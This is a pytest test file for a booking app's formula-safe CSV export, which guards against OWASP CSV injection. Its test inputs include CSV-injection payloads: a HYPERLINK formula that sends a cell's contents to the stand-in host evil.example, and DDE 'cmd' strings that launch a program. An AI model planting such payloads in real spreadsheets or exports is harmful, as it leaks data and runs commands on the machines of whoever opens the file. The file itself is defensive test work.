"""Formula-safe CSV (OWASP CSV injection): what a spreadsheet would evaluate is text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from booking_app.integrations.csv_export import (
    csv_bytes,
    excel_csv_bytes,
    excel_csv_stream,
    safe_cell,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?g="&B2,"guest")',
        "+380671112233",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # spreadsheets skip leading blanks
        "\n@x",
        "-",
    ],
)
def test_cells_a_spreadsheet_would_evaluate_start_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Ivan Guest", "", "a=b", "e-mail", "-5", "12.50", "-1001234567890", 0, -5, Decimal("-1.5")],
)
def test_plain_text_and_numbers_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_other_values_are_text() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(["=1"]) == "['=1']"  # str() of it starts with "[": harmless
    assert safe_cell(True) is True


def test_csv_bytes_neutralises_every_cell_and_quotes_properly() -> None:
    body = csv_bytes(["name", "=header"], [['=1+2,"x"', 3], [None, "ok"]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert rows == [["name", "'=header"], ['\'=1+2,"x"', "3"], ["", "ok"]]


def test_the_excel_dialect_bom_semicolons_offsets_and_decimal_commas() -> None:
    at = datetime(2026, 11, 30, 21, 30, tzinfo=UTC)
    body = excel_csv_bytes(
        ["Ім'я", "When", "Day", "Amount", "Paid"],
        [
            ["=1+1", at, date(2026, 11, 1), Decimal("-12.50"), True],
            ['Тарас; "T"', None, "", 3, False],
        ],
        tz=ZoneInfo("Europe/Kyiv"),
    )
    assert body.startswith(b"\xef\xbb\xbf") and b"\r\n" in body
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows == [
        ["Ім'я", "When", "Day", "Amount", "Paid"],
        ["'=1+1", "2026-11-30T23:30:00+02:00", "2026-11-01", "-12,50", "yes"],
        ['Тарас; "T"', "", "", "3", "no"],
    ]


def test_the_stream_yields_bounded_chunks() -> None:
    rows = ([i, "x" * 10] for i in range(1_050))
    chunks = list(excel_csv_stream(["n", "text"], rows, flush_rows=500))
    assert len(chunks) == 3 and all(len(c) < 500 * 20 for c in chunks)
    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 1_051
